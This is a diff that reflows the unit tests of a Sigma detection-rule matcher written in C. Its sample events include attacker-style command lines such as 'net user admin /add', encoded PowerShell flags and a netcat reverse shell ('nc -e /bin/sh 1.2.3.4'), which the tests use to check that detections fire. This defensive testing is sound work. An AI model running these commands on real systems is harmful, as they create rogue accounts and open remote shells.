@@ -151,18 +151,24 @@ static void test_wildcards_and_escapes(void **state)
     /* \\ is one backslash */
     assert_int_equal(pc_match("  sel:\n    CommandLine|endswith: 'c\\\\d'\n  condition: sel\n", ev), 1);
     /* ? is one character, even a multi-byte one */
-    assert_int_equal(pc_match("  sel:\n    Image: '?bc'\n  condition: sel\n", "{\"Image\":\"\xc3\xa9" "bc\"}"), 1);
+    assert_int_equal(pc_match("  sel:\n    Image: '?bc'\n  condition: sel\n", "{\"Image\":\"\xc3\xa9"
+                                                                              "bc\"}"),
+                     1);
 }
 
 static void test_all_and_lists(void **state)
 {
     (void)state;
     const char *ev = "{\"CommandLine\":\"net user admin /add\"}";
-    assert_int_equal(pc_match("  sel:\n    CommandLine|contains|all:\n      - 'net'\n      - '/add'\n  condition: sel\n", ev), 1);
-    assert_int_equal(pc_match("  sel:\n    CommandLine|contains|all:\n      - 'net'\n      - '/del'\n  condition: sel\n", ev), 0);
-    assert_int_equal(pc_match("  sel:\n    CommandLine|contains:\n      - 'xyz'\n      - '/add'\n  condition: sel\n", ev), 1);
+    assert_int_equal(
+        pc_match("  sel:\n    CommandLine|contains|all:\n      - 'net'\n      - '/add'\n  condition: sel\n", ev), 1);
+    assert_int_equal(
+        pc_match("  sel:\n    CommandLine|contains|all:\n      - 'net'\n      - '/del'\n  condition: sel\n", ev), 0);
+    assert_int_equal(
+        pc_match("  sel:\n    CommandLine|contains:\n      - 'xyz'\n      - '/add'\n  condition: sel\n", ev), 1);
     /* a list of maps: any map */
-    assert_int_equal(pc_match("  sel:\n    - CommandLine: 'x'\n    - CommandLine|contains: 'user'\n  condition: sel\n", ev), 1);
+    assert_int_equal(
+        pc_match("  sel:\n    - CommandLine: 'x'\n    - CommandLine|contains: 'user'\n  condition: sel\n", ev), 1);
     assert_int_equal(pc_match("  sel:\n    - CommandLine: 'x'\n    - Image: 'y'\n  condition: sel\n", ev), 0);
     /* a map: every field */
     assert_int_equal(pc_match("  sel:\n    CommandLine|contains: 'net'\n    Image: 'y'\n  condition: sel\n", ev), 0);
@@ -209,7 +215,8 @@ static void test_catastrophic_regex(void **state)
     etwl_sigma *s = rule_set(pc_rule("  sel:\n    CommandLine|re: '^(a+)+$'\n  condition: sel\n"), ETWL_SIGMA_OK);
     const char *evs[1] = {info};
     clock_t t0 = clock();
-    snprintf(info, sizeof info, "{\"CommandLine\":\"%s!\"}", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
+    snprintf(info, sizeof info, "{\"CommandLine\":\"%s!\"}",
+             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
     assert_int_equal(replay(s, SYSMON, 1, NULL, evs, 1, NULL), 0);
     assert_true(etwl_sigma_regex_limit_hits(s) >= 1);
     assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 10.0);
@@ -220,9 +227,8 @@ static void test_base64_and_utf16(void **state)
 {
     (void)state;
     /* "whoami" base64 is d2hvYW1p; as UTF-16LE: dwBoAG8AYQBtAGkA */
-    assert_int_equal(pc_match("  sel:\n    CommandLine|base64: 'whoami'\n  condition: sel\n",
-                              "{\"CommandLine\":\"d2hvYW1p\"}"),
-                     1);
+    assert_int_equal(
+        pc_match("  sel:\n    CommandLine|base64: 'whoami'\n  condition: sel\n", "{\"CommandLine\":\"d2hvYW1p\"}"), 1);
     assert_int_equal(pc_match("  sel:\n    CommandLine|base64|contains: 'whoami'\n  condition: sel\n",
                               "{\"CommandLine\":\"x d2hvYW1p y\"}"),
                      1);
@@ -233,12 +239,12 @@ static void test_base64_and_utf16(void **state)
                               "{\"CommandLine\":\"dwBoAG8AYQBtAGkA\"}"),
                      1);
     /* UTF-16BE "ab" = 00 61 00 62 -> AGEAYg==; with a BOM (utf16): FF FE 61 00 62 00 -> //5hAGIA */
-    assert_int_equal(pc_match("  sel:\n    CommandLine|utf16be|base64: 'ab'\n  condition: sel\n",
-                              "{\"CommandLine\":\"AGEAYg==\"}"),
-                     1);
-    assert_int_equal(pc_match("  sel:\n    CommandLine|utf16|base64: 'ab'\n  condition: sel\n",
-                              "{\"CommandLine\":\"//5hAGIA\"}"),
-                     1);
+    assert_int_equal(
+        pc_match("  sel:\n    CommandLine|utf16be|base64: 'ab'\n  condition: sel\n", "{\"CommandLine\":\"AGEAYg==\"}"),
+        1);
+    assert_int_equal(
+        pc_match("  sel:\n    CommandLine|utf16|base64: 'ab'\n  condition: sel\n", "{\"CommandLine\":\"//5hAGIA\"}"),
+        1);
     /* base64offset: "whoami" at any of the three alignments inside a blob:
      * base64("xwhoami") = eHdob2FtaQ==, base64("xxwhoami") = eHh3aG9hbWk= */
     const char *d = "  sel:\n    CommandLine|base64offset|contains: 'whoami'\n  condition: sel\n";
@@ -254,9 +260,15 @@ static void test_windash(void **state)
     const char *d = "  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n";
     assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell -enc x\"}"), 1);
     assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell /enc x\"}"), 1);
-    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x93" "enc x\"}"), 1);
-    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x94" "enc x\"}"), 1);
-    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x95" "enc x\"}"), 1);
+    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x93"
+                                 "enc x\"}"),
+                     1);
+    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x94"
+                                 "enc x\"}"),
+                     1);
+    assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell \xe2\x80\x95"
+                                 "enc x\"}"),
+                     1);
     assert_int_equal(pc_match(d, "{\"CommandLine\":\"powershell enc x\"}"), 0);
 }
 
@@ -327,7 +339,7 @@ static void test_conditions(void **state)
         {"all of sel_a or all of sel_b", 1},
         /* 'them' leaves out _ selections: sel_a, sel_b match; the rest do not */
         {"1 of them and not _hidden", 1},
-        {"sel_a and sel_b or sel_c", 1},   /* and binds tighter */
+        {"sel_a and sel_b or sel_c", 1}, /* and binds tighter */
         {"sel_c and sel_b or sel_a", 1},
         {"sel_c and (sel_b or sel_a)", 0},
     };
@@ -450,7 +462,8 @@ static void test_logsources(void **state)
                  "    CommandLine|contains: ' -e '\n    ParentImage|endswith: '/bash'\n  condition: sel\n",
                  ETWL_SIGMA_OK);
     {
-        const char *ev = "{\"image\":\"/usr/bin/nc\",\"cmdline\":\"nc -e /bin/sh 1.2.3.4\",\"parent_image\":\"/bin/bash\"}";
+        const char *ev =
+            "{\"image\":\"/usr/bin/nc\",\"cmdline\":\"nc -e /bin/sh 1.2.3.4\",\"parent_image\":\"/bin/bash\"}";
         assert_int_equal(replay(s, "process", 1, NULL, &ev, 1, NULL), 1);
         assert_int_equal(replay(s, "process", 2, NULL, &ev, 1, NULL), 0);
     }
